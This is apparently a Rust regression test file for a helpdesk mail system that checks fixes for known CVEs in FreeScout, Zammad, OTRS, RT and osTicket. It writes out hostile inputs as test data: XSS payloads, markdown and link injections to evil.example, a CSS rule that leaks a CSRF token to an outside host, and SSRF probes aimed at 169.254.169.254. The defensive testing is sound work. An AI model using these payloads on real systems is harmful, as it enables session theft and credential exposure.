//! What strangers wrote, where it comes out again: in our own mails, in sheets that are taken in, in what a mail invites to, and in
//! what a server on the other side says.

use super::scan::runs;
use super::scripts::{furnished, pages};
use super::upload;
use crate::mail::{Post, letter};
use crate::support::TestDesk;
use crate::support::channel::connect;
use crate::support::letters::{comes, mailbox};
use serde_json::json;
use std::io::Write;
use std::net::TcpListener;
use transom::domain::agent::Role;
use transom::domain::channel::Kind;
use transom::jobs::roster::drain;

/// Names that are a tag, a link, a picture or a form of their own.
const NAMES: [&str; 6] = [
    "<img src=https://evil.example/p.png>Ana",
    "[Confirm your account](https://evil.example/in)",
    "Ana ![x](https://evil.example/p.png)",
    "Ana <https://evil.example/in>",
    "**Ana** `x` ~~y~~ # z",
    "[Ana][1]",
];

/// CVE-2026-40567 (FreeScout), CVE-2023-50456 (Zammad), CVE-2019-12248 (OTRS): the name of a customer became a part of the HTML of
/// our mails: pictures that watch, and links under other words.
#[test]
fn cve_2026_40567_a_strangers_name_is_words_in_our_mails() {
    let desk = TestDesk::new();
    let petra = desk.person("Petra", Role::Agent);
    let channel = mailbox(&desk);
    let body = "Dear {{contact.name}} ({{contact.first_name}}),\n\nthis is about {{conversation.subject}} of {{date.today}}.";
    desk.template(None, "Dear", body);
    let program = desk.token_of(petra.id);
    for (number, name) in NAMES.iter().enumerate() {
        let id = comes(&desk, &channel, &format!("m{number}@example.com"), "It does not glow.");
        let name = (*name).to_owned();
        let given = name.clone();
        desk.write(move |tx| {
            tx.execute("UPDATE contact SET name = ?1", [&given])?;
            tx.execute("UPDATE conversation SET subject = ?1", [&given])?;
            Ok(())
        });
        let chosen = json!({ "name": "Dear", "language": "en" });
        let path = format!("/conversations/{id}/messages");
        let told = desk.api_post(&program, &path, json!({ "body": "", "template": chosen }));
        assert_eq!(told.status, 201, "{name}: {told:?}");
        let sent = desk.said(id).pop().unwrap();
        let html = sent.html.unwrap_or_default();
        for tag in ["<a ", "<img", "<strong", "<em", "<code", "<del", "<h1"] {
            assert!(!html.contains(tag), "{name}: {html}");
        }
        assert!(sent.body.contains(&format!("Dear {name} (")), "word for word: {}", sent.body);
        assert!(
            sent.body.ends_with(&format!("about {name} of 3 March 2026.")),
            "word for word: {}",
            sent.body
        );
    }
}

/// CVE-2025-9158 (RT): what an invitation to a meeting said stood as HTML above the mail.
#[test]
fn cve_2025_9158_an_invitation_to_a_meeting_is_text() {
    let post = Post::new();
    let ada = post.desk.person("Ada", Role::Admin);
    let bad = "<img src=x onerror=alert(1)>";
    let more = ["Subject: Meeting", "MIME-Version: 1.0", "Content-Type: multipart/mixed; boundary=b"];
    for (number, first) in ["text/plain", "text/html"].iter().enumerate() {
        let text = format!(
            "--b\r\nContent-Type: {first}\r\n\r\nSee you\r\n--b\r\nContent-Type: text/calendar; method=REQUEST; \
             name=\"{bad}\"\r\n\r\nBEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:{bad}\r\nDTSTART;TZID={bad}:20260303T140000\r\n\
             DTEND:{bad}\r\nLOCATION:</title><script>alert(1)</script>\r\nDESCRIPTION:{bad}\r\n\
             ORGANIZER;CN={bad}:mailto:{bad}\r\nATTENDEE:javascript:alert(1)\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n--b--\r\n"
        );
        let came = post.comes(&letter("ana@example.org", &format!("i{number}@x"), &more, &text)).unwrap();
        let (id, thread) = (came.id, came.conversation);
        let mut shown = 0;
        for target in [
            "/inbox?view=all".to_owned(),
            format!("/conversations/{thread}"),
            format!("/conversations/{thread}/original"),
            format!("/messages/{id}/mail"),
            format!("/messages/{id}/original"),
            "/search?q=alert".to_owned(),
        ] {
            let page = post.desk.get(&ada, &target);
            assert!(page.status < 500, "{target}");
            assert_eq!(runs(&page.body), Vec::<String>::new(), "{target} of {first}");
            shown += usize::from(page.body.contains("onerror=alert(1)"));
        }
        assert!(shown > 0, "the invitation of {first} is hardly shown");
    }
}

/// CVE-2019-11537 (osTicket): a sheet of people stood raw on the page that said what was wrong with it.
#[test]
fn cve_2019_11537_a_sheet_is_text_on_the_pages_of_its_import() {
    let desk = TestDesk::new();
    let ada = desk.person("Ada", Role::Admin);
    let bad = "<svg onload=alert(1)>";
    let sheet = format!(
        "{bad};E-mail;</td>{bad}\n{bad};{bad};{bad}\n\"<script>alert(1)</script>\";ana@example.org;{bad}\n"
    );
    let page =
        upload(&desk, &ada, "/contacts/import", &[], (&format!("{bad}.csv"), "text/csv", sheet.as_bytes()));
    assert_eq!(runs(&page.body), Vec::<String>::new());
    let at = page.header("location").expect("the sheet is taken").to_owned();
    let columns = [("column", "name"), ("column", "email"), ("column", "")];
    let mut shown = 0;
    for step in [&[("try", "1")][..], &[]] {
        let page = desk.get(&ada, &at);
        assert_eq!(runs(&page.body), Vec::<String>::new(), "{at}");
        shown += usize::from(page.body.contains("alert(1)"));
        let page = desk.post(&ada, &at, &[&columns[..], step].concat());
        assert_eq!(runs(&page.body), Vec::<String>::new());
        drain(&desk.desk);
    }
    for target in [at.clone(), "/contacts/import".into(), "/contacts".into(), "/contacts/1".into()] {
        let page = desk.get(&ada, &target);
        assert_eq!(runs(&page.body), Vec::<String>::new(), "{target}");
        shown += usize::from(page.body.contains("alert(1)"));
    }
    assert!(shown > 2, "the sheet was hardly shown: {shown}");
    let errors = desk.get(&ada, &format!("{at}/errors"));
    assert!(
        errors.header("content-disposition").is_some_and(|how| how.starts_with("attachment")),
        "{}",
        errors.status
    );
    let saved = upload(
        &desk,
        &ada,
        "/settings/templates/import",
        &[],
        (&format!("{bad}.csv"), "text/csv", sheet.as_bytes()),
    );
    assert_eq!(runs(&saved.body), Vec::<String>::new());
}

/// CVE-2026-40497, CVE-2026-40568, CVE-2024-29184 (FreeScout): the style of a signature read the token of whoever looked at it, and
/// its tags ran.
#[test]
fn cve_2026_40497_a_signature_brings_no_style_of_its_own() {
    let post = Post::new();
    let (eva, ada) = (post.desk.person("Eva", Role::Agent), post.desk.person("Ada", Role::Admin));
    let came = post.comes(&letter("ana@example.org", "a@x", &["Subject: Lamp"], "Broken")).unwrap();
    for text in [
        "<style>input[name=csrf][value^=a]{background:url(https://evil.example/a)}</style>",
        "<link rel=stylesheet href=https://evil.example/a.css>",
        "<p style=\"background:url(https://evil.example/a)\">Eva</p>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<svg><style>@import 'https://evil.example/a'</style></svg>",
    ] {
        let saved = post.desk.post(&eva, "/settings/profile/signature", &[("signature", text)]);
        assert_eq!(saved.status, 303, "{text}");
        post.desk.answers(&eva, came.conversation, "It comes tomorrow");
        let sent = post.desk.said(came.conversation).pop().unwrap();
        let html = sent.html.unwrap_or_default();
        for tag in ["<style", "<link", "<p style", "<details", "<svg"] {
            assert!(!html.contains(tag), "{text}: {html}");
        }
        for who in [&eva, &ada] {
            for target in
                [format!("/conversations/{}", came.conversation), format!("/messages/{}/mail", sent.id)]
            {
                let page = post.desk.get(who, &target);
                assert_eq!(runs(&page.body), Vec::<String>::new(), "{target} with {text}");
                assert!(
                    !page.body.contains("<style>input")
                        && !page.body.contains("<link rel=stylesheet href=https://evil"),
                    "{target}"
                );
            }
        }
    }
}

/// CVE-2026-40566 (FreeScout): the try of the settings of mail told what a service inside the house says of itself, and reached
/// where clouds hand out credentials.
#[test]
fn cve_2026_40566_the_try_of_a_mailbox_tells_nothing_of_another_service() {
    let desk = TestDesk::new();
    let ada = desk.person("Ada", Role::Admin);
    let house = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = house.local_addr().unwrap().port().to_string();
    let says = std::thread::spawn(move || {
        while let Ok((mut guest, _)) = house.accept() {
            if guest.write_all(b"-ERR the-key-of-the-house v1.2.3\r\n").is_err() {
                break;
            }
        }
    });
    for host in ["127.0.0.1", "169.254.169.254", "[fe80::1]"] {
        let settings = [
            ("address", "help@shop.test"),
            ("smtp_host", host),
            ("smtp_port", port.as_str()),
            ("smtp_security", "plain"),
            ("imap_host", host),
            ("imap_port", port.as_str()),
            ("imap_security", "plain"),
            ("imap_user", "x"),
        ];
        let channel = connect(&desk, Kind::Email, &settings);
        let page = desk.post(&ada, &format!("/settings/channels/{}/test", channel.id), &[]);
        assert!(page.status < 500, "{host}: {}", page.status);
        let shown = desk.get(&ada, &format!("/settings/channels/{}", channel.id));
        for page in [&page, &shown] {
            assert!(!page.body.contains("the-key-of-the-house"), "{host}: {}", page.body);
        }
    }
    drop(says);
}

/// CVE-2017-5943 (RT), CVE-2019-12746, CVE-2020-1774 (OTRS): what proves a form or lets somebody in stood in addresses, which are
/// handed on, kept in histories and told to the next site.
#[test]
fn cve_2017_5943_no_address_on_a_page_holds_what_lets_somebody_in() {
    let (desk, ada) = furnished();
    let proof = transom::web::session::csrf(&ada.token);
    let (mut links, mut forms) = (0, 0);
    for target in pages(&desk) {
        let page = desk.get(&ada, &target);
        for tag in page.body.split('<') {
            for name in [" href=\"", " action=\"", " src=\"", " formaction=\"", " data-href=\""] {
                let Some(address) = tag.split(name).nth(1).and_then(|rest| rest.split('"').next()) else {
                    continue;
                };
                assert!(!address.contains(&*proof) && !address.contains(&*ada.token), "{target}: {address}");
                links += 1;
            }
        }
        forms += page.body.matches(&format!("name=\"csrf\" value=\"{proof}\"")).count();
        assert!(!page.body.contains(&*ada.token), "{target} shows the word of the session");
        assert!(!page.header("location").is_some_and(|to| to.contains(&*proof)), "{target}");
    }
    assert!(links > 1_000 && forms > 50, "{links} addresses, {forms} forms");
}
